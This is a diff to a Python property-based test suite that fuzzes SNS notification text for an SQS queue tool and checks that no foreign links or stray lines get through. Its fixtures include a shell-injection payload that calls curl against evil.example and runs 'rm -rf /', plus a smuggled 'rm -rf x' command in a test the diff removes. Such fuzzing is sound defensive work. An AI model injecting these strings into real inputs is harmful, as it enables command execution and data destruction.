@@ -27,7 +27,12 @@ PAYLOADS = (
     "\N{ZERO WIDTH SPACE}" * 9, "\ud800", "$(curl evil.example)`id`'\"; rm -rf /",
     "www.evil.example", "{" * 5_000, '{"Statement":[{"Sid":"x\\nNEXT"}]}', "x" * 300_000, "",
 )  # fmt: skip
-TEXT = st.sampled_from(PAYLOADS) | st.text(st.characters(exclude_categories=[]), max_size=60)
+# Where our own commands lead.
+OURS = "https://sqs.us-east-1.amazonaws.com/"
+ANY = st.sampled_from((*PAYLOADS, "https://evil.example", "WWW.evil.example"))
+TEXT = ANY | st.text(st.characters(exclude_categories=[]), max_size=60)
+# What our own code hands over stands as it is, and holds no other link.
+MADE = TEXT.map(lambda text: text.replace("://", ":"))
 KEYS = TEXT | st.sampled_from((*ATTRIBUTES, "Policy", "RedrivePolicy", "mendq", "mendq:x"))
 TEXTS = st.dictionaries(KEYS, TEXT, max_size=30)
 STEPS = st.fixed_dictionaries({"attribute": KEYS, "before": TEXT, "after": TEXT})
@@ -39,7 +44,7 @@ EVIDENCE = st.fixed_dictionaries(
 )
 CASES = st.fixed_dictionaries(
     {
-        "case_id": TEXT,
+        "case_id": MADE,
         "symptom": TEXT,
         "reason": TEXT,
         "evidence": EVIDENCE,
@@ -49,12 +54,12 @@ CASES = st.fixed_dictionaries(
     }
 )
 CHANGES = st.builds(QueueChange, TIMES, TEXT, TEXT, st.lists(TEXT, max_size=9).map(tuple))
-NAMES = st.lists(TEXT, max_size=9)
 BESIDE = st.fixed_dictionaries(
     {
-        **dict.fromkeys(("sentence", "runbook", "next_command"), TEXT),
+        **dict.fromkeys(("sentence", "runbook", "next_command"), MADE),
         **dict.fromkeys(("attributes", "tags"), TEXTS),
-        **dict.fromkeys(("event_names", "first", "beyond"), NAMES),
+        **dict.fromkeys(("first", "beyond"), st.lists(MADE, max_size=9)),
+        "event_names": st.lists(TEXT, max_size=9),
         "known": st.none() | st.builds(Known, TIMES, TEXTS),
         "last_change": st.none() | TEXT | CHANGES,
         "shown": st.lists(KEYS, max_size=9),
@@ -66,6 +71,7 @@ def assert_fit_for_sns(one: NotificationText) -> None:
     assert re.fullmatch(r"[A-Za-z0-9][ -~]{0,98}", one.subject)
     assert len(one.body.encode()) <= sent.MOST_BYTES
     assert one.body.isascii()
+    assert "://" not in one.body.replace(OURS, "")
     assert all(line.isprintable() for line in one.body.split("\n"))
     assert len(one.body.split("\n")) <= MOST_LINES
 
@@ -118,7 +124,7 @@ def test_what_is_cut_is_counted_and_the_end_stays() -> None:
 
 
 @settings(max_examples=60)
-@given(texts=st.tuples(*[TEXT] * 5), names=st.lists(TEXT, max_size=30), queues=st.integers(0, 99))
+@given(texts=st.tuples(*[MADE] * 5), names=st.lists(TEXT, max_size=30), queues=st.integers(0, 99))
 def test_any_text_in_the_other_pages(
     texts: tuple[str, str, str, str, str], names: list[str], queues: int
 ) -> None:
@@ -129,26 +135,3 @@ def test_any_text_in_the_other_pages(
     for one in (mass, notification.of_held_back(account, account, NOW, queues)):
         assert_fit_for_sns(one)
         assert "NEXT" in assert_in_shape(one)
-
-
-@settings(max_examples=60)
-@given(text=TEXT)
-def test_nobody_elses_text_makes_a_link(text: str) -> None:
-    attributes = dict.fromkeys(("Policy", "RedrivePolicy", "VisibilityTimeout"), text)
-    hostile = QueueChange(NOW, text, text, (text,))
-    one = notified(
-        {
-            "tags": {"mendq": text, "aws:cloudformation:stack-name": text},
-            "attributes": attributes,
-            "event_names": [text],
-            "known": Known(NOW, {"Policy": text + "x"}),
-            "last_change": hostile,
-            "next_command": "aws sqs list-queues\nrm -rf x",
-        },
-        reason=text,
-        evidence=dict.fromkeys(CASE.evidence, text) | {"principals": [text]},
-        state=State.OVERRIDDEN,
-        steps=({**STEP, "before": text, "after": text},),
-    )
-    assert "://" not in one.body
-    assert "(not shown: " in one.body, "a command with a line of its own"
